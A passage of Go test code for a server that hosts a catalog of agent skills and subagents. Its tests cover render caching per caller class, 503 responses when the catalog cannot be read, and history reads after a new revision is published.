	count := snap.nativeRenders.size
	want := len(anon) + len(authed) - 1 // the root lists no entry: one for every caller
	if n := count(); n != want {
		t.Fatalf("%d native documents kept, want %d (each once per class of caller, the root once)", n, want)
	}
	for i := 0; i < 20; i++ {
		get("a.example", fmt.Sprintf("/subagents/v1/pages/agent-%03d~agent-%03d.json", i, i+1))
		get("a.example", fmt.Sprintf("/skills/v1/pages/b%d~d.json", i))
	}
	for _, p := range authed { // an anonymous caller asking for the other class's pages
		get("a.example", p)
	}
	get("a.example", "/subagents/v1/changelog-reviewer/index.json")
	get("a.example", "/api/v1/subagents?q=agent")
	if n := count(); n != want {
		t.Errorf("%d native documents kept after unadvertised pages and per-item documents, want %d", n, want)
	}
	// Documents with absolute URLs are rendered for the origin asked.
	const ver = "/subagents/v1/changelog-reviewer/versions/2.0.1.json"
	if a, b := get("a.example", ver), get("b.example", ver); !strings.Contains(a.Body.String(), "http://a.example/api/v1/") ||
		!strings.Contains(b.Body.String(), "http://b.example/api/v1/") {
		t.Errorf("version documents:\n%s\n%s", a.Body, b.Body)
	}
}

// TestNativeWithoutACatalogIsUnavailable hands the native routes a
// snapshot whose head was read but whose entries cannot be: every route
// must be a 503, never a 404 or an empty list. (A catalog the store cannot
// give at all is TestUnreadableCatalogIsNeverEmpty.)
func TestNativeWithoutACatalogIsUnavailable(t *testing.T) {
	st := store.NewMemory()
	standardBucket(t, st)
	h := newHarness(t, st)
	c := h.srv.catalog
	c.mu.Lock()
	c.cur, c.checked, c.good, c.err = newSnapshot(&catalog.Head{ETag: `"gone"`}, store.NewMemory()), h.clock.Now(), h.clock.Now(), nil
	c.mu.Unlock()
	for _, p := range []string{
		routes.Manifest, "/skills/v1/index.json", "/skills/v1/pages/all.json", "/subagents/v1/pages/a~.json",
		"/skills/v1/deploy-via-pr/index.json", "/api/v1/skills", "/api/v1/skills/deploy-via-pr/1.0.0/SKILL.md",
	} {
		w := h.do(http.MethodGet, p)
		if w.Code != http.StatusServiceUnavailable || errorCode(t, w) != codeUnavailable || w.Header().Get("Retry-After") == "" {
			t.Errorf("%s: %d %s, want 503 with Retry-After", p, w.Code, w.Body)
		}
	}
}

// TestHistoryReadAfterAPublishAnswersFromTheNewRevision loads a view, then
// publishes before the cache revalidates: reading an older version's
// history finds the revision it was compiled from replaced. The answer
// comes from the new revision (it was a 500), for every route that reads
// history.
func TestHistoryReadAfterAPublishAnswersFromTheNewRevision(t *testing.T) {
	st := store.NewMemory()
	b := newBucket(t, st)
	b.skill("multi", "", catalog.Public, artifact.FormatMarkdown, []byte("---\nname: multi\ndescription: one\n---\n"))
	b.skill("multi", "", catalog.Public, artifact.FormatMarkdown, []byte("---\nname: multi\ndescription: two\n---\n"))
	b.publish()
	h := newHarness(t, st)
	paths := []string{
		"/api/v1/skills/multi", "/api/v1/skills/multi/1.0.0", "/api/v1/skills/multi/1.0.0/SKILL.md",
		"/skills/v1/multi/index.json", "/skills/v1/multi/versions/1.0.0.json",
	}
	for _, p := range paths {
		if w := h.do(http.MethodGet, p); w.Code != http.StatusOK {
			t.Fatalf("before: %s: %d %s", p, w.Code, w.Body)
		}
	}
	for i, p := range paths {
		// Views compiled, histories not yet read for this revision.
		b.skill(fmt.Sprintf("other-%d", i), "", catalog.Public, artifact.FormatMarkdown, []byte(fmt.Sprintf("---\nname: other-%d\ndescription: x\n---\n", i)))
		h.do(http.MethodGet, "/.well-known/agent-skills/index.json")
		h.do(http.MethodGet, "/api/v1/skills")
		b.publish()
		if w := h.do(http.MethodGet, p); w.Code != http.StatusOK {
			t.Errorf("after a publish: %s: %d %s", p, w.Code, w.Body)
		}
		h.clock.Advance(DefaultRevalidateEvery)
	}
}
